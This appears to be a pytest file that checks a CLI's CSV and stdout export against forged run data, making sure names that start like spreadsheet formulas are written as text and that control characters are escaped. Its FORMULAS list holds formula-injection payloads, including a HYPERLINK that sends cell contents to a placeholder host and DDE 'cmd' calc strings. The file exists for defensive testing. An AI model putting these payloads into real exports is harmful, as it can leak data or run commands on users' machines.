"""`longview export` of a forged run folder: names someone else chose (an agent, a variant, a
breakdown level) that start like spreadsheet formulas come out of the CSV as text, and control
characters never reach the terminal. A bare carriage return in a name split a CSV row in two
(Python's writer quotes only its line terminator), letting the rest start a row of its own."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from longview.cli import app
from longview.results import csv_cell

FORMULAS = ['=HYPERLINK("http://example.invalid/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1"]


@pytest.fixture(scope="module")
def forged(tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("export") / "r"
    r = CliRunner().invoke(app, ["run", "atr", "--agent", "ref:passive", "--personas", "1", "--out", str(out)])
    assert r.exit_code == 0, r.output
    sc = json.loads((out / "scorecard.json").read_text())
    row = sc["rows"][0]
    row["agent"], row["variant"] = FORMULAS[0], FORMULAS[1] + "\x1b[2J"
    row["extra"]["breakdowns"] = {FORMULAS[2]: {FORMULAS[3]: {"tsacc": 0.5}}, "d": {FORMULAS[4]: {"tsacc": 0.1},
                                                                                   FORMULAS[5]: {"tsacc": 0.2}}}
    (out / "scorecard.json").write_text(json.dumps(sc))
    return out


def test_formula_cells_are_written_as_text(forged, tmp_path):
    target = tmp_path / "x.csv"
    r = CliRunner().invoke(app, ["export", str(forged), "--csv", str(target)])
    assert r.exit_code == 0, r.output
    rows = list(csv.DictReader(io.StringIO(target.read_bytes().decode(), newline="")))
    cells = [v for row in rows for v in row.values()]
    assert any(FORMULAS[0] in c for c in cells) and any(FORMULAS[3] in c for c in cells)
    for c in cells:
        assert not c.startswith(("=", "+", "-", "@", "\t", "\r")), c
    assert {row["agent"] for row in rows} == {"'" + FORMULAS[0]}
    assert "'" + FORMULAS[2] + "=" + FORMULAS[3] in {row["breakdown"] for row in rows}
    numbers = [row["value"] for row in rows if row["value"]]
    assert numbers and all(float(v) >= 0 for v in numbers)  # numbers stay numbers


def test_stdout_export_emits_no_control_characters(forged):
    for flag in ([], ["--jsonl", "-"]):
        r = CliRunner().invoke(app, ["export", str(forged), *flag])
        assert r.exit_code == 0, r.output
        assert "\x1b" not in r.output and ("\\x1b[2J" in r.output or "\\u001b[2J" in r.output)


def test_csv_cell_leaves_ordinary_values_alone():
    assert csv_cell("ref:oracle") == "ref:oracle" and csv_cell(-0.5) == -0.5 and csv_cell(None) == ""
    assert csv_cell("=1") == "'=1" and csv_cell("-x") == "'-x" and csv_cell("a\r=1") == "a\n=1"


def test_a_carriage_return_cannot_start_a_row(forged, tmp_path):
    target = tmp_path / "x.csv"
    assert CliRunner().invoke(app, ["export", str(forged), "--csv", str(target)]).exit_code == 0
    rows = list(csv.DictReader(io.StringIO(target.read_bytes().decode(), newline="")))
    assert all(None not in row.values() and None not in row for row in rows)
    assert {row["run"] for row in rows} == {str(forged)}
